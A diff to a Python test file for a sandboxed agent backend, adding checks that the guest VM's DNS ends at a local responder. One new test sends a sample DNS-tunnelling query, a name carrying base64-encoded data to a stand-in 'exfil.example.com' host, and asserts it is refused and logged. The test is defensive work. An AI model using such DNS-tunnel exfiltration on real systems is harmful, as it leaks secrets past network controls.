@@ -12,6 +12,7 @@ from __future__ import annotations
 import json
 import shutil
 import socket
+import struct
 import time
 from dataclasses import replace
 from pathlib import Path
@@ -81,14 +82,18 @@ def test_launch_arguments_and_bundle_topology(backend: SmolmachinesBackend, fake
     try:
         backend.launch(plan=plan, secrets=SecretValues(), progress=NullProgress())
         verbs = fake_smolvm.verbs()  # type: ignore[attr-defined]
-        # create, start, then provisioning: the bottle's CA (cp + exec as root), the prompt (cp + exec)
+        # create, start, the guest's DNS check, then provisioning: the bottle's CA (cp + exec as root),
+        # the prompt (cp + exec)
         assert verbs[verbs.index("machine create"):] == [
-            "machine create", "machine start", "machine cp", "machine exec", "machine cp", "machine exec"]
+            "machine create", "machine start", "machine exec", "machine cp", "machine exec", "machine cp",
+            "machine exec"]
         execs = [c for c in fake_smolvm.calls() if "exec" in c]  # type: ignore[attr-defined]
-        assert [c[c.index("--user") + 1] for c in execs] == ["root", "claude"]
+        assert [c[c.index("--user") + 1] for c in execs] == ["claude", "root", "claude"]
+        assert execs[0][execs[0].index("--") + 1:] == ["getent", "ahostsv4", "egress."]
         (create,) = [c for c in fake_smolvm.calls() if "create" in c]  # type: ignore[attr-defined]
         assert create[create.index("--smolfile") + 1] == str(spec.state_dir / "stage" / "Smolfile")
         assert create[create.index("--guest-subnet") + 1] == alloc["guest_subnet"]
+        assert create[create.index("--dns") + 1] == alloc["bundle_address"]  # the guest's resolver
         labels = dict(v.split("=", 1) for i, v in enumerate(create) if create[i - 1] == "--label")
         assert labels == identity.labels(slug=spec.slug, backend="smolmachines", role="agent",
                                          agent=spec.agent.name, home=str(backend.settings.home))
@@ -106,7 +111,8 @@ def test_launch_arguments_and_bundle_topology(backend: SmolmachinesBackend, fake
         info = json.loads(RUNNER.run(Command(("docker", "container", "inspect", names.bundle))).stdout)[0]
         bindings = info["HostConfig"]["PortBindings"]
         published = {"HostIp": alloc["bundle_address"], "HostPort": str(alloc["ports"]["egress"])}
-        assert bindings == {"3128/tcp": [published]}
+        dns = [{"HostIp": alloc["bundle_address"], "HostPort": "53"}]
+        assert bindings == {"3128/tcp": [published], "53/udp": dns, "53/tcp": dns}
         # Attack from the host side: the proxy port answers on the bundle address and nowhere else.
         port = int(alloc["ports"]["egress"])
         assert _connects(alloc["bundle_address"], port)
@@ -124,10 +130,15 @@ def test_launch_arguments_and_bundle_topology(backend: SmolmachinesBackend, fake
     assert not [m for m in backend.smolvm.ls() if spec.slug in str(m["name"])]
 
 
-@pytest.mark.parametrize("failing", ["start", "exec"])
+@pytest.mark.parametrize(("variable", "value", "says"), [
+    ("FAKE_SMOLVM_FAIL", "start", "start failed"),
+    ("FAKE_SMOLVM_FAIL", "exec", "exec failed"),
+    # a smolvm that ignored --dns (its resolver asks 127.0.0.1): the guest is not used
+    ("FAKE_SMOLVM_DNS_SERVER", "127.0.0.1", "the guest's DNS does not end at the bottle's DNS responder"),
+])
 def test_a_failed_step_undoes_everything(backend: SmolmachinesBackend, monkeypatch: pytest.MonkeyPatch,
-                                         failing: str) -> None:
-    monkeypatch.setenv("FAKE_SMOLVM_FAIL", failing)
+                                         variable: str, value: str, says: str) -> None:
+    monkeypatch.setenv(variable, value)
     spec = builtin_spec(settings=backend.settings)
     StateDir(spec.state_dir).create(agent=spec.agent.name, bottle=spec.bottle.name, backend="smolmachines",
                                     cwd=spec.cwd)
@@ -135,7 +146,7 @@ def test_a_failed_step_undoes_everything(backend: SmolmachinesBackend, monkeypat
     try:
         with pytest.raises(BottleError) as err:
             backend.launch(plan=plan, secrets=SecretValues(), progress=NullProgress())
-        assert f"{failing} failed" in str(err.value)
+        assert says in str(err.value) and "\n" not in str(err.value)
         assert "removed everything this up had made" in str(err.value)
         assert _ours(spec.slug) == []
         assert not [m for m in backend.smolvm.ls() if spec.slug in str(m["name"])]
@@ -204,8 +215,9 @@ def test_git_workspace_through_the_gate(backend: SmolmachinesBackend, fake_smolv
                  if "exec" in c and c[c.index("--user") + 1] == "claude"]
         expected = gitwork.agent_clone_commands(slug=spec.slug, bottle=spec.bottle, host=address,
                                                 port=gate_port)
-        assert "tar --extract" in execs[0][-1]  # the prompt; the directory is not copied
-        assert execs[1:] == [["env", "HOME=/home/claude", *argv] for argv in expected]
+        assert execs[0] == ["getent", "ahostsv4", "egress."]  # launch's guest DNS check
+        assert "tar --extract" in execs[1][-1]  # the prompt; the directory is not copied
+        assert execs[2:] == [["env", "HOME=/home/claude", *argv] for argv in expected]
         assert [f"http://{address}:{gate_port}/workspace.git", "/workspace"] in [a[-2:] for a in expected]
         # The bundle: the mirror mounted read-write, the gate published on the bundle address only.
         info = json.loads(RUNNER.run(Command(("docker", "container", "inspect", names.bundle))).stdout)[0]
@@ -238,3 +250,61 @@ def test_git_workspace_through_the_gate(backend: SmolmachinesBackend, fake_smolv
         shutil.rmtree(spec.state_dir, ignore_errors=True)
     assert not report.failed
     assert _ours(spec.slug) == []
+
+
+def _dns_query(name: str) -> bytes:
+    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
+    return struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)
+
+
+def _ask(address: str, name: str, *, tcp: bool) -> tuple[int, list[str]]:
+    """(rcode, A addresses) from ``address``:53."""
+    query = _dns_query(name)
+    if tcp:
+        with socket.create_connection((address, 53), timeout=3) as conn:
+            conn.sendall(struct.pack("!H", len(query)) + query)
+            data = b""
+            while len(data) < 2 or len(data) < 2 + struct.unpack("!H", data[:2])[0]:
+                chunk = conn.recv(4096)
+                if not chunk:
+                    break
+                data += chunk
+            reply = data[2:]
+    else:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+            sock.settimeout(3)
+            sock.sendto(query, (address, 53))
+            reply = sock.recv(4096)
+    rcode, ancount = struct.unpack("!H", reply[2:4])[0] & 0xF, struct.unpack("!H", reply[6:8])[0]
+    addresses = [socket.inet_ntoa(reply[len(query) + 12 + i * 16:len(query) + 16 + i * 16])
+                 for i in range(ancount)]
+    return rcode, addresses
+
+
+def test_guest_dns_ends_at_the_bundle(backend: SmolmachinesBackend, fake_smolvm: object) -> None:
+    """The guest's resolver is the bundle's responder on the bundle address (``--dns``, port 53 UDP and
+    TCP published there): a name outside the bottle is REFUSED and logged, nothing is forwarded, and
+    launch's own check (the guest resolves ``egress.`` to the bundle) passed against the real responder
+    through the fake smolvm's stand-in resolver."""
+    spec = builtin_spec(settings=backend.settings)
+    state = StateDir(spec.state_dir)
+    state.create(agent=spec.agent.name, bottle=spec.bottle.name, backend="smolmachines", cwd=spec.cwd)
+    plan = backend.prepare(spec=spec, stage_dir=spec.state_dir / "stage")
+    address = str(dict(plan.data["allocation"])["bundle_address"])  # type: ignore[call-overload]
+    names = identity.Names(spec.slug)
+    try:
+        backend.launch(plan=plan, secrets=SecretValues(), progress=NullProgress())
+        info = json.loads(RUNNER.run(Command(("docker", "container", "inspect", names.bundle))).stdout)[0]
+        bundle_ip = info["NetworkSettings"]["Networks"][names.bundle_net]["IPAddress"]
+        # The attack: a query whose name carries data, over both transports, must go nowhere.
+        exfil = f"{spec.slug}-c2VjcmV0.exfil.example.com"
+        for tcp in (False, True):
+            assert _ask(address, exfil, tcp=tcp) == (5, [])  # REFUSED: no recursion, no forwarding
+            assert _ask(address, "egress", tcp=tcp) == (0, [bundle_ip])
+        logs = "".join(p.read_text() for p in (spec.state_dir / "logs").rglob("*") if p.is_file())
+        assert exfil.lower() in logs and '"rule": "dns"' in logs.replace('":"', '": "')
+    finally:
+        report = backend.down(slug=spec.slug)
+        shutil.rmtree(spec.state_dir, ignore_errors=True)
+    assert not report.failed
+
